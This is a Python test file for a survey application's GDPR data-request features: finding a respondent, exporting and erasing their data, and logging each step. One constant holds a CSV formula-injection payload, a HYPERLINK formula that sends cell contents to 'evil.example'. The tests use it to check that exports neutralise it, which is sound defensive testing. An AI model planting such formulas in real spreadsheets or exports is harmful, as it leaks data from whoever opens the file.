"""A person's data requests (GDPR Art. 15 access, Art. 17 erasure) in the admin pages and the JSON API:
found by their link, link to continue, invitation id or respondent id; every step logged (issue 13)."""

from __future__ import annotations

import base64
import csv
import io
import json

import pytest
from conftest import small_workbook
from web_support import (
    ADMIN,
    PASSWORD,
    campaign,
    csrf,
    login,
    make_client,
    sqlite_store,  # noqa: F401 - a fixture, passed to tests by name
)

from s3stresstest.instrument import instrument_from_workbook
from s3stresstest.store import NotFound
from s3stresstest.web.core import token_fingerprint

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
AUTH = {"Authorization": "Basic " + base64.b64encode(f"{ADMIN}:{PASSWORD}".encode()).decode()}


def _setup(store):
    store.create_admin(ADMIN, PASSWORD)
    client = make_client(store)
    assert login(client).status_code == 303
    cid = campaign(store, instrument_from_workbook(small_workbook(), source="tiny"))
    inv = store.create_invitations(cid, [("SI", "company", "en")])[0]
    rid = store.start_respondent(inv["token"])
    store.save_page(rid, "all", {"q1": "yes", "open1": EVIL})
    store.set_contact(rid, "maria@example.org")
    store.submit(rid)
    other = store.create_invitations(cid, [("AT33", "company", "en")])[0]  # someone else, kept
    kept = store.start_respondent(other["token"])
    store.save_page(kept, "all", {"q1": "no"})
    return client, cid, inv, rid, kept


def _events(store, cid) -> list[tuple[str, dict]]:
    log = store.audit_log(cid)
    return [(e, json.loads(d)) for e, d in zip(log["event"], log["detail"], strict=True) if e.startswith("gdpr")]


def _post(client, cid, path, token, **data):
    return client.post(
        f"/admin/campaigns/{cid}/data-requests{path}", data={"csrf_token": token, **data}, follow_redirects=False
    )


def test_an_admin_finds_a_person_by_their_link_downloads_and_erases_their_data(sqlite_store):
    store = sqlite_store
    client, cid, inv, rid, kept = _setup(store)
    assert f'href="/admin/campaigns/{cid}/data-requests"' in client.get(f"/admin/campaigns/{cid}").text
    page = client.get(f"/admin/campaigns/{cid}/data-requests")
    assert page.status_code == 200 and "Respondent data requests" in page.text
    token = csrf(page.text)

    r = _post(client, cid, "", token, kind="link", who=f"http://testserver/s/{inv['token']}")
    assert r.status_code == 200
    assert rid in r.text and "maria@example.org" in r.text and "HYPERLINK" in r.text
    assert inv["token"] not in r.text  # carried on by invitation id, never by the link
    assert f'name="who" value="{inv["invitation_id"]}"' in r.text
    assert _events(store, cid)[-1] == (
        "gdpr_view",
        {"admin": ADMIN, "respondents": 1, "invitation_id": inv["invitation_id"]},
    )

    carried = {"kind": "invitation", "who": str(inv["invitation_id"])}
    r = _post(client, cid, "/download", token, format="csv", **carried)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    cells = [c for row in csv.reader(io.StringIO(r.text)) for c in row]
    assert "'" + EVIL in cells and EVIL not in cells  # no live formula
    assert "maria@example.org" in cells
    r = _post(client, cid, "/download", token, format="json", **carried)
    data = json.loads(r.content)
    assert data["respondents"][0]["open_answers"]["open1"] == EVIL
    assert [e for e, d in _events(store, cid)][-2:] == ["gdpr_export", "gdpr_export"]
    assert [d.get("format") for e, d in _events(store, cid)][-2:] == ["csv", "json"]

    # erasure: first a page naming what goes, nothing erased yet
    r = _post(client, cid, "/erase", token, **carried)
    assert r.status_code == 200 and "cannot be undone" in r.text
    assert rid in r.text and "1 contact detail" in r.text and "1 open answer" in r.text and "1 answer<" in r.text
    assert f"invitation {inv['invitation_id']}" in r.text
    assert store.respondent(rid)["id"] == rid
    r = _post(client, cid, "/erase", token, asked="yes", **carried)  # the box not ticked
    assert r.status_code == 422 and "nothing was erased" in r.text
    assert store.respondent(rid)["id"] == rid
    r = _post(client, cid, "/erase", token, asked="yes", confirm="yes", **carried)
    assert r.status_code == 303
    assert "Erased: 1 respondent and 4 stored rows are deleted" in client.get(r.headers["location"]).text
    with pytest.raises(NotFound):
        store.respondent(rid)
    assert store.respondent(kept)["id"] == kept
    assert store.resolve_token(inv["token"]) is None
    event, detail = _events(store, cid)[-1]
    assert event == "gdpr_erase" and detail["admin"] == ADMIN
    assert "maria" not in "".join(store.audit_log(cid)["detail"])
    # the same request again: clearly nothing left
    r = _post(client, cid, "", token, **carried)
    assert r.status_code == 422 and "nothing is stored for invitation" in r.text


def test_an_open_link_respondent_is_found_by_their_link_to_continue(sqlite_store):
    store = sqlite_store
    client, cid, _inv, _rid, _kept = _setup(store)
    token = store.create_open_link(cid, "SI")
    rid = store.start_respondent(token, stakeholder_group="other", language="en")
    store.save_page(rid, "all", {"q1": "dk"})
    signer = client.app.state.web.signer
    code = signer.sign("open-resume", {"rid": rid, "link": token_fingerprint(token)})
    page = client.get(f"/admin/campaigns/{cid}/data-requests").text
    r = _post(client, cid, "", csrf(page), kind="link", who=f"http://testserver/r/{token}/resume/{code}")
    assert r.status_code == 200 and rid in r.text
    assert f'name="kind" value="respondent"><input type="hidden" name="who" value="{rid}"' in r.text
    # the shared open link names nobody
    r = _post(client, cid, "", csrf(page), kind="link", who=f"http://testserver/r/{token}")
    assert r.status_code == 422 and "open link shared by many respondents" in r.text
    # a forged link to continue is no link of this server
    forged = f"http://testserver/r/{token}/resume/{code[:-3]}abc"
    r = _post(client, cid, "", csrf(page), kind="link", who=forged)
    assert r.status_code == 422 and "is not a survey link" in r.text


def test_unknown_people_are_refused_clearly_in_the_admins_language(sqlite_store):
    store = sqlite_store
    client, cid, _inv, _rid, _kept = _setup(store)
    token = csrf(client.get(f"/admin/campaigns/{cid}/data-requests").text)
    r = _post(client, cid, "", token, kind="invitation", who="99999")
    assert r.status_code == 422 and f"no invitation 99999 in campaign {cid}" in r.text
    r = _post(client, cid, "", token, kind="respondent", who="nobody")
    assert r.status_code == 422 and "no respondent &#39;nobody&#39; in this campaign" in r.text
    r = _post(client, cid, "", token, kind="invitation", who="abc")
    assert r.status_code == 422 and "is not an invitation id" in r.text
    r = _post(client, cid, "", token, kind="link", who="http://testserver/s/unknown-token")
    assert r.status_code == 422 and "belongs to no invitation of this campaign" in r.text
    assert r.text.count('value="http://testserver/s/unknown-token"') == 1  # the form keeps what was typed
    client.get("/admin/language?lang=de&next=/admin")
    r = _post(client, cid, "", token, kind="invitation", who="99999")
    assert r.status_code == 422 and "99999" in r.text and "no invitation 99999" not in r.text
    assert _events(store, cid) == []  # nothing found, nothing shown, nothing to log


def test_the_api_gives_and_erases_a_persons_data(sqlite_store):
    store = sqlite_store
    client, cid, inv, rid, kept = _setup(store)
    url = f"/api/v1/campaigns/{cid}/data-requests"
    r = client.post(f"{url}/access", json={"invitation_id": inv["invitation_id"]}, headers=AUTH)
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["invitation_id"] == inv["invitation_id"] and body["respondents"][0]["contact"] == "maria@example.org"
    assert body["respondents"][0]["open_answers"] == {"open1": EVIL}
    r = client.post(f"{url}/access?format=csv", json={"respondent_id": rid}, headers=AUTH)
    assert r.status_code == 200 and "'" + EVIL.replace('"', '""') in r.text
    assert [d["via"] for e, d in _events(store, cid)] == ["api", "api"]
    for bad, text in (
        ({"invitation_id": 99999}, "no invitation 99999"),
        ({}, "give exactly one of"),
        ({"invitation_id": inv["invitation_id"], "respondent_id": rid}, "give exactly one of"),
        ({"link": "not a link"}, "is not a survey link"),
    ):
        r = client.post(f"{url}/access", json=bad, headers=AUTH)
        assert r.status_code == 422 and text in r.json()["problems"][0]["message"], r.text
    r = client.post(f"{url}/erase", json={"link": f"http://testserver/s/{inv['token']}"}, headers=AUTH)
    assert r.status_code == 422 and store.respondent(rid)["id"] == rid  # not confirmed
    r = client.post(f"{url}/erase", json={"link": f"http://testserver/s/{inv['token']}", "confirm": True}, headers=AUTH)
    assert r.status_code == 200, r.text
    assert r.json() == {
        "campaign_id": cid, "invitation_id": inv["invitation_id"], "respondents": [rid], "rows": 4, "runs_deleted": []
    }  # fmt: skip
    assert store.respondent(kept)["id"] == kept
    r = client.post(f"{url}/erase", json={"respondent_id": rid, "confirm": True}, headers=AUTH)
    assert r.status_code == 422 and f"no respondent '{rid}'" in r.json()["problems"][0]["message"]
    # the admin session cookie alone is not enough: a foreign page could send it
    assert client.post(f"{url}/access", json={"respondent_id": kept}).status_code == 403
